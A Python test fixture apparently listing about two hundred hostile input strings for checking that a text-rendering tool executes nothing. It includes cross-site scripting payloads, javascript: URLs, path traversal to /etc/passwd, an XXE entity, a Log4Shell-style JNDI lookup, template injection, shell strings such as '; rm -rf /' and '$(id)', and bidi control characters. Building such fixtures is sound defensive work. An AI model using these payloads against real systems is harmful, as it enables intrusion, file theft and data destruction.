"""Two hundred texts that want to be more than text: markup, scripts, addresses, styles, templates, hidden characters.

Each is one that somebody might find in a text, a title, a name or a file from elsewhere. What could run sets
`window.ran`, or opens a dialog; nothing of it may. Written for these tests.
"""

from __future__ import annotations

MARKUP = (
    "<b>bold</b>", "<i>never closed", "</p></div></body></html>", "</main><h1>another page</h1>", "<br><hr>",
    "<p style='position:fixed;inset:0'>over all", "<table><tr><td>cell", "</q></li></ul></details>",
    "<mark class=critical>", "<del>gone</del><ins>new</ins>", "<a href='https://example.invalid/'>away</a>",
    "<base href='https://example.invalid/'>", "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<form action=https://example.invalid/><input name=who><button>", "<textarea>", "<title>another title</title>",
    "<plaintext>", "<xmp><b>raw</b></xmp>", "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><b>kept</b></template>", "<select><option>chosen", "<dialog open>said</dialog>",
    "<frameset><frame src=x>", "< u >blanks< / u >", "<B CLASS=X>CAPITALS</B>", "<unknown-element data-x=1>",
    "<b\tclass=x\n>line</b>", "<<b>>doubled<</b>>", "<p id=text>", "<p id=popover>", "<html data-edition=other>",
)  # fmt: skip
SCRIPTS = (
    "<script>window.ran=1</script>", "<SCRIPT>window.ran=1</SCRIPT>", "<script src=//example.invalid/x.js></script>",
    "<script type=module>window.ran=1</script>", "<script\n>window.ran=1</script\n>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>", "</script><script>window.ran=1</script>", "</script>",
    "</ScRiPt >", "';window.ran=1;//", '";window.ran=1;//', "`;window.ran=1;`", "\\';window.ran=1;//", "'+alert(1)+'",
    '"+alert(1)+"', "-alert(1)-", ");alert(1);(", "});window.ran=1;({", "]}});window.ran=1;//", "*/window.ran=1/*",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e", "\\x3cscript\\x3ewindow.ran=1", "${window.ran=1}",
    "`${alert(1)}`", "__proto__", "constructor", "toString", '{"__proto__":{"polluted":1}}',
    "workbenchSearch.text({})", "null", "undefined", "NaN",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=window.ran=1>", "<img src=x onerror='alert(1)'>", "<svg onload=window.ran=1>",
    "<svg/onload=alert(1)>", "<body onload=window.ran=1>", "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1>", "<audio src=x onerror=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>", "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<object data='data:text/html,<script>window.ran=1</script>'>", "<embed src=//example.invalid/x>",
    "<marquee onstart=window.ran=1>", "<a onmouseover=window.ran=1>over</a>", "<b onclick=window.ran=1>here</b>",
    '" onmouseover="window.ran=1', "' onmouseover='window.ran=1", '" autofocus onfocus="window.ran=1" x="',
    "' autofocus onfocus='window.ran=1' x='", '"><img src=x onerror=window.ran=1>', "'><svg onload=window.ran=1>",
    '" style="position:fixed', " onfocus=window.ran=1 autofocus ", "x onerror=window.ran=1",
    "<math><mtext><img src=x onerror=window.ran=1>", "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1>", "<svg><use href=data:image/svg+xml,x>",
    "<style>@import '//example.invalid/x.css';</style>", "<isindex onfocus=window.ran=1>",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;window.ran=1&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;lt;b&amp;gt;", "&lt",
    "&notanentity;", "&#0;", "&#x202e;", "&#99999999;", "&nbsp;&shy;&zwj;", "&quot;&apos;", "&NewLine;&Tab;", "&",
    "&&amp;&", "%3Cscript%3Ewindow.ran=1%3C/script%3E", "%", "%E0%A4%A", "%00", "+%2B+", "&amp", "<!--", "-->",
    "<!-- --!><img src=x onerror=window.ran=1>", "]]>", "<![CDATA[<b>]]>", "<?xml version='1.0'?>", "<?php echo 1 ?>",
    "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "<!--[if IE]><b><![endif]-->", "<%= 7*7 %>",
    "<!-",
)  # fmt: skip
ADDRESSES = (
    "javascript:window.ran=1", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>window.ran=1</script>", "vbscript:msgbox(1)", "blob:null/1", "file:///etc/passwd",
    "//example.invalid/x", "https://example.invalid/?q='\"><b>", "../../../../etc/passwd",
    "..\\..\\windows\\system.ini", "mailto:a@example.invalid?body=<b>", "#n-000000000000", "?find=<b>x</b>#p1",
    "about:blank",
)  # fmt: skip
STYLES = (
    "expression(alert(1))", "url(//example.invalid/x.png)", "} body { display: none } .x {", "</style><b>x</b>",
    "@import '//example.invalid/x.css';", "color:red;background:url(javascript:alert(1))", "class='hide-c0'",
    ":root{--paper:#000}", "\\3c b\\3e", "/* ", "content:'\\202e'", "!important",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ edition.title|safe }}", "{% include 'about.html' %}", "{% raw %}", "{% endraw %}{{ self }}",
    "{# gone #}", "{{", "}}", "{%", "%}", "{0.__class__}", "%s%n%x", "$(id)", "`id`", "; rm -rf /", "| cat",
    "${jndi:ldap://example.invalid/x}", "[/b][link=//example.invalid]",
)  # fmt: skip
HIDDEN = (
    "\u202egnp.exe\u202c", "\u202dleft\u202c", "\u2067isolated", "\u2066a\u2069\u2069\u2069",
    "ze\u200bro wi\u200bdth", "\u200djoined\u200d", "\u2060word\u2060joiner", "\ufeffmark of order", "so\u00adft",
    "\u061cletter mark", "\u200f\u200e\u200f", "two\u2028lines", "two\u2029paragraphs", "\x00nothing\x00",
    "bell\x07\x07", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m", "back\x08\x08\x08space",
    "\x0bvertical", "\x7fdelete", "\x85next line", "\ufff9a\ufffab\ufffb", "\ud800alone", "alone\udc00",
    "\udfff\ud800", "e\u0301\u0301\u0301\u0301\u0301\u0301",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*MARKUP, *SCRIPTS, *HANDLERS, *ENTITIES, *ADDRESSES, *STYLES, *TEMPLATES, *HIDDEN)
